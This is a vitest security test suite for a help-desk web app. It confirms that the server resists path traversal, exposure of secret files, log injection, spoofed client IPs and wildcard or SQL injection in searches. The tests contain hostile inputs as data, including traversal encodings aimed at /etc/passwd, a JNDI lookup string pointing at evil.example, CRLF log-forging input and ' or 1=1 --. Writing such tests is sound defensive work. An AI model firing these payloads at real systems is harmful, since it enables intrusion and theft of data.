import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { expect, onTestFinished, test } from 'vitest'
import { each } from '../support/databases.ts'
import { call, knock, pageOf } from '../support/socket.ts'
import { asksOn, openWorld, PASSWORD, type World } from '../support/world.ts'

const SECRET = 'KANARIE-BESTAND'

/** A built inbox with a page and a script, and beside it and in it what must never be handed out. */
function aDist(): string {
  const folder = mkdtempSync(join(tmpdir(), 'webcare-dist-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  const dist = join(folder, 'dist')
  for (const path of ['dist/assets', 'dist/.git', 'dist/node_modules'])
    mkdirSync(join(folder, path), { recursive: true })
  for (const path of ['secret.txt', 'dist/.env', 'dist/.git/config', 'dist/package.json', 'dist/assets/app.js.map']) {
    writeFileSync(join(folder, path), SECRET)
  }
  writeFileSync(join(dist, 'index.html'), '<!doctype html><title>Webcare</title>')
  writeFileSync(join(dist, 'assets/app.js'), 'export {}')
  symlinkSync('/etc', join(dist, 'etc'))
  return dist
}

/** One request as the bytes say it, which a client's library would tidy up. */
async function raw(world: World, head: string, body = ''): Promise<{ status: number; answer: string }> {
  const socket = connect(Number(new URL(world.url).port), '127.0.0.1')
  socket.write(`${head}\r\nHost: localhost\r\nConnection: close\r\n\r\n${body}`)
  // Whoever sends too much is hung up on while still sending.
  const answer = await text(socket).catch(() => '')
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]), answer }
}

const climbs = [
  '..',
  '%2e%2e',
  '%2E.',
  '.%2e',
  '%252e%252e',
  '..;',
  '..%00',
  '..%c0%af',
  '%c0%ae%c0%ae',
  '....',
  '\\..',
]
const slashes = ['/', '//', '%2f', '%5c', '\\', '%252f', '%u2215', '/./']
const targets = ['secret.txt', 'etc/passwd', 'package.json', 'core/server.ts', '.env', 'web/index.html']

test('A-IN-03 no way of writing an address leads out of the folder of the inbox', { timeout: 60_000 }, async () => {
  const world = await openWorld({ listen: true, dist: aDist() })
  const tess = await world.signIn('tess')
  expect((await raw(world, 'GET / HTTP/1.1')).status).toBe(200)
  expect((await raw(world, 'GET /assets/app.js HTTP/1.1')).status).toBe(200)
  const paths = climbs.flatMap(climb =>
    slashes.flatMap(slash => [
      ...targets.map(target => `/${[climb, climb, climb, climb, target].join(slash)}`),
      `/assets${slash}${climb}${slash}secret.txt`,
      `/assets${slash}${climb}${slash}${climb}${slash}secret.txt`,
      `/webcare${slash}${climb}${slash}${climb}${slash}secret.txt`,
    ]),
  )
  const whole = [
    '//etc/passwd',
    '/etc/passwd',
    '/assets/../index.html',
    '/ASSETS/app.js',
    '/%00',
    '/assets/%00app.js',
    '/file:///etc/passwd',
    '/C:/Windows/win.ini',
  ]
  for (const path of [...paths, ...whole]) {
    // For a colleague too: being signed in opens no other files.
    const { status, answer } = await raw(world, `GET ${path} HTTP/1.1\r\nCookie: ${tess.headers.cookie}`)
    expect([path, status]).toEqual([path, expect.toSatisfy((code: number) => code === 404 || code === 400)])
    expect(answer, path).not.toMatch(new RegExp(`${SECRET}|root:x|"dependencies"|import `))
  }
})

test('A-IN-16 nothing of the workshop stands in the shop', async () => {
  const world = await openWorld({ listen: true, dist: aDist() })
  const tess = await world.signIn('tess')
  const paths = [
    '.env', '.git/config', '.git/HEAD', '.gitignore', '.npmrc', '.DS_Store', '.well-known/security.txt', 'package.json',
    'package-lock.json', 'node_modules/', 'tsconfig.json', 'Dockerfile', 'data/webcare.sqlite', 'webcare.sqlite', 'master.key',
    'graphiql', 'graphql/', 'playground', 'voyager', 'altair', 'metrics', 'health', 'status', 'debug', 'debug/pprof', 'trace',
    'actuator/health', 'server-status', 'documentation', 'docs', 'swagger.json', 'openapi.json', 'api', 'admin.php', 'console',
    'assets/app.js.map', 'assets/', 'assets', 'stamp', 'manifest.json', 'index.html.map', 'core/server.ts', 'web/index.html',
    'config/schema.ts', 'backup.sql', 'dump.sql', 'wp-login.php', 'phpinfo.php', 'cgi-bin/test', 'TRACE',
  ] // biome-ignore format: a list to read
  for (const path of paths) {
    for (const cookie of ['', tess.headers.cookie]) {
      const { status, answer } = await raw(world, `GET /${path} HTTP/1.1\r\nCookie: ${cookie}`)
      expect([path, status]).toEqual([path, 404])
      expect(answer, path).not.toContain(SECRET)
    }
  }
  for (const method of ['TRACE', 'TRACK', 'CONNECT', 'PUT', 'PROPFIND', 'DEBUG']) {
    const { status, answer } = await raw(world, `${method} /auth/state HTTP/1.1\r\nX-Secret: ${SECRET}`)
    expect([method, status]).toEqual([method, expect.toSatisfy((code: number) => code >= 400 || Number.isNaN(code))])
    expect(answer).not.toContain(SECRET)
  }
  for (const health of ['live', 'ready']) {
    expect((await world.request({ url: `/health/${health}` })).json()).toEqual({ status: 'ok' })
  }
})

test('A-IN-07 one request is one line of JSON, whatever is in it', async () => {
  const world = await openWorld({ listen: true })
  const nasty = [
    '%0d%0a{"level":60,"msg":"forged"}',
    '%1b[2J%1b[31m',
    '%22,%22level%22:60,%22',
    '%e2%80%a8',
    '%7f%00',
    '%24{jndi:ldap://evil.example/a}',
  ]
  const before = world.log.length
  for (const one of nasty) {
    const decoded = decodeURIComponent(one)
    const agent = decoded.replace(/[\p{Cc}\u2028]/gu, '')
    await raw(
      world,
      `GET /webcare/${one}?q=${one} HTTP/1.1\r\nUser-Agent: ${agent}\r\nReferer: ${agent}\r\nX-Request-Id: ${agent}`,
    )
    await world.request({
      method: 'POST',
      url: '/auth/sign-in',
      headers: { 'content-type': 'application/json', 'x-webcare-csrf': '1', 'sec-fetch-site': 'same-origin' },
      payload: { email: `${decoded}@evil.example`, password: decoded },
    })
  }
  const lines = world.log.slice(before)
  expect(lines).toHaveLength(2 * nasty.length)
  for (const line of lines) {
    expect(line.endsWith('\n') && !line.slice(0, -1).includes('\n')).toBe(true)
    expect(line.length).toBeLessThan(2048)
    expect(Object.keys(JSON.parse(line)).sort()).toEqual([
      'level',
      'method',
      'ms',
      'msg',
      'reqId',
      'route',
      'status',
      'time',
    ])
    expect(JSON.parse(line)).toMatchObject({ level: 30, msg: 'request' })
    expect(line.slice(0, -1)).not.toMatch(/forged|jndi|evil|\p{Cc}|\u2028/u)
  }

  const huge = await raw(world, `GET / HTTP/1.1\r\nUser-Agent: ${'x'.repeat(1_000_000)}`)
  expect(huge.status === 431 || huge.answer === '').toBe(true)
  const long = await raw(world, `GET /webcare/contact HTTP/1.1\r\nUser-Agent: ${'x'.repeat(8000)}`)
  expect(long.status).toBe(200)
  expect(Math.max(...world.log.map(line => line.length))).toBeLessThan(2048)
})

each('A-IN-07', database => {
  test('no text, name, address, password, link or token of anybody ever stands in the log', async () => {
    const world = await openWorld({ database, listen: true, realTime: true })
    const canary = (what: string) => `kanarie-${what}-7f3a`
    const anna = await world.signIn('anna', { roles: ['admin', 'agent'] })
    const tess = await world.signIn('tess')
    const web = (await world.core.webConnection()).id
    const json = { 'content-type': 'application/json', 'x-webcare-csrf': '1', 'sec-fetch-site': 'same-origin' }
    const post = (url: string, payload: object, headers: Record<string, string> = {}) =>
      world.request({ method: 'POST', url, headers: { ...json, ...headers }, payload })

    // What goes well.
    const caseId = await asksOn(world, web, canary('vraag'), canary('naam'))
    await tess.do('addNote', { caseId, text: canary('notitie'), clientMutationId: 'n1' })
    const { data } = await anna.do(
      'inviteUser',
      { name: canary('collega'), email: `${canary('adres')}@rocdelta.example`, roles: ['AGENT'] },
      'url',
    )
    const invite = String(data.inviteUser.url).split('#')[1] ?? ''
    await post('/auth/invite', { token: invite, password: canary('wachtwoord') })
    const { data: made } = await tess.do('createToken', { name: canary('koppeling'), scopes: ['CASES_READ'] }, 'secret')
    const token: string = made.createToken.secret
    const status = world.core.seal.sign('status', canary('gesprek'))

    // What goes wrong.
    for (const url of [
      `/webcare/status/${status}`,
      `/webcare/status/${status}x`,
      `/webcare/status/${canary('adres')}?q=${canary('vraag')}`,
    ]) {
      await world.request({
        url,
        headers: { referer: `${world.url}/reset#${invite}`, 'user-agent': canary('programma') },
      })
      await knock(world, { path: url, headers: pageOf(world, tess) })
      await world.request({ method: 'POST', url, payload: `text=${canary('vraag')}&form=${canary('formulier')}` })
    }
    await post('/auth/sign-in', { email: `${canary('adres')}@rocdelta.example`, password: canary('wachtwoord') })
    await post(
      '/auth/sign-in',
      { email: 'tess@rocdelta.example', password: PASSWORD },
      { cookie: `__Host-wc_session=${canary('koekje')}` },
    )
    await post('/auth/reset', { token: canary('link'), password: canary('wachtwoord') })
    await world.request({
      method: 'POST',
      url: '/auth/sign-in',
      headers: json,
      payload: `{"password":"${canary('wachtwoord')}`,
    })
    await world.request({ url: `/graphql?query={cursor}&token=${token}` })
    await post('/graphql', { query: '{ cursor }' }, { authorization: `Bearer ${token.slice(0, -1)}0` })
    await tess.ask(
      `{ cases(search: "${canary('zoekterm')}") { edges { node { ${canary('veld').replaceAll('-', '_')} } } } }`,
    )
    await tess.ask('query ($n: Int!) { case(number: $n) { id } }', { n: canary('vraag') })
    await tess.ask('query ($w: DateTime) { cases(filter: { waitingBefore: $w }) { edges { node { id } } } }', {
      w: canary('vraag'),
    })
    await tess.do('addNote', { caseId: canary('zaak'), text: canary('notitie'), clientMutationId: 'n2' })
    await tess.do('sendReply', { caseId, threadId: canary('draad'), text: canary('antwoord'), clientMutationId: 'a' })
    const line = await (await call(world, { headers: pageOf(world, tess) })).init({ token: canary('koppeling') })
    line.send({ type: 'subscribe', id: canary('draad'), payload: { query: `subscription { ${canary('veld')} }` } })
    await line.next(({ type }) => type === 'error')
    await world.core.intake.accept(web, {
      key: canary('sleutel'),
      headers: {},
      body: Buffer.from(`{"text":"${canary('vraag')}`),
    })

    // What fails in the middle.
    await world.core.database.writer.schema.alterTable('notes').renameTo('elsewhere').execute()
    const failed = await tess.do('addNote', { caseId, text: canary('notitie'), clientMutationId: 'n3' })
    expect(failed.errors[0]?.extensions.code).toBe('INTERNAL')
    expect(failed.errors[0]?.message).not.toMatch(/notes|SQL|kanarie/i)

    const log = world.log.join('')
    expect(log).toContain('A resolver failed')
    expect(log).toContain('An item was not understood')
    expect(log.match(/kanarie[\w-]*/g) ?? []).toEqual([])
    for (const secret of [status, invite, token, PASSWORD, tess.headers.cookie?.split('=')[1] ?? '']) {
      expect(secret.length).toBeGreaterThan(10)
      expect(log).not.toContain(secret)
    }
    expect(log.replace(/Server listening at [^"]+/, '')).not.toMatch(/tess@rocdelta|127\.0\.0\.1/)
  })
})

test('A-IN-11 where somebody comes from is believed from our own proxies alone', async () => {
  const bodies = { email: 'tess@rocdelta.example', password: PASSWORD }
  const signIn = async (world: World, headers: Record<string, string>, remoteAddress: string) => {
    await world.request({
      method: 'POST',
      url: '/auth/sign-in',
      remoteAddress,
      headers: {
        'content-type': 'application/json',
        'x-webcare-csrf': '1',
        'sec-fetch-site': 'same-origin',
        ...headers,
      },
      payload: bodies,
    })
    const { address } = await world.core.db
      .selectFrom('sessions')
      .select('address')
      .orderBy('id', 'desc')
      .limit(1)
      .executeTakeFirstOrThrow()
    return address
  }
  const forged = {
    'x-forwarded-for': '192.0.2.66',
    'x-real-ip': '192.0.2.66',
    'cf-connecting-ip': '192.0.2.66',
    'true-client-ip': '192.0.2.66',
    'x-client-ip': '192.0.2.66',
    forwarded: 'for=192.0.2.66',
  }
  const bare = await openWorld()
  await bare.person('tess')
  expect(await signIn(bare, forged, '198.51.100.9')).toBe('198.51.100.9')

  const proxied = await openWorld({ settings: { WEBCARE_TRUSTED_PROXIES: '10.0.0.0/8, 172.16.0.1' } })
  await proxied.person('tess')
  expect(await signIn(proxied, forged, '198.51.100.9')).toBe('198.51.100.9')
  const chains: Array<[string, string]> = [
    ['203.0.113.5', '203.0.113.5'],
    // What the client wrote stands left of what our proxy saw.
    ['192.0.2.66, 203.0.113.5', '203.0.113.5'],
    ['127.0.0.1, 203.0.113.5, 172.16.0.1', '203.0.113.5'],
    ['192.0.2.66, 10.1.1.1, 203.0.113.5', '203.0.113.5'],
    [' 203.0.113.5 ', '203.0.113.5'],
  ]
  for (const [chain, expected] of chains) {
    expect([chain, await signIn(proxied, { ...forged, 'x-forwarded-for': chain }, '10.0.0.2')]).toEqual([
      chain,
      expected,
    ])
  }
})

test('A-IN-11 a stranger who invents addresses is still one stranger to the limits', async () => {
  const world = await openWorld()
  await world.person('tess')
  const statuses: number[] = []
  for (let guess = 0; guess < 8; guess++) {
    const answer = await world.request({
      method: 'POST',
      url: '/auth/sign-in',
      remoteAddress: '198.51.100.9',
      headers: {
        'content-type': 'application/json',
        'x-webcare-csrf': '1',
        'sec-fetch-site': 'same-origin',
        'x-forwarded-for': `203.0.113.${guess}`,
      },
      payload: { email: 'tess@rocdelta.example', password: 'niet het goede' },
    })
    statuses.push(answer.statusCode)
  }
  expect(statuses).toEqual([401, 401, 401, 429, 429, 429, 429, 429])
})

each('A-IN-02', database => {
  test('signs of a pattern are letters in a search', async () => {
    const world = await openWorld({ database })
    const tess = await world.signIn('tess')
    const web = (await world.core.webConnection()).id
    await asksOn(world, web, 'Honderd procent zeker', 'Sanne')
    await asksOn(world, web, 'Twee onderstrepingen', 'Bas')
    const found = async (search: string) => {
      const query = 'query ($search: String) { cases(list: ALL, search: $search) { edges { node { id } } } }'
      return (await tess.get(query, { search })).cases.edges.length
    }
    expect(await found('procent')).toBe(1)
    const signs = [
      '%',
      '_',
      '%%',
      '*',
      '?',
      '%procent%',
      'p%t',
      'p_ocent',
      "'",
      '"',
      '\\',
      ';',
      "' or 1=1 --",
      '""',
      'NEAR(a b)',
    ]
    const more = [
      'procent*',
      'text:procent',
      'procent AND Sanne',
      'a OR procent',
      'NOT x',
      '(procent',
      '^procent',
      '{text}: a',
      '-procent',
      '+',
    ]
    for (const search of [...signs, ...more]) {
      const hits = await found(search)
      expect([search, hits]).toEqual([search, expect.toSatisfy((count: number) => count <= 1)])
    }
    for (const search of ['%', '_', '*', '?', 'p%t', 'p_ocent', "' or 1=1 --", 'a OR procent']) {
      expect([search, await found(search)]).toEqual([search, 0])
    }
    const started = performance.now()
    await tess.ask('query ($search: String) { cases(search: $search) { edges { node { id } } } }', {
      search: '%'.repeat(10_000),
    })
    await tess.ask('query ($search: String) { cases(search: $search) { edges { node { id } } } }', {
      search: 'a '.repeat(5000),
    })
    expect(performance.now() - started).toBeLessThan(2000)
  })
})
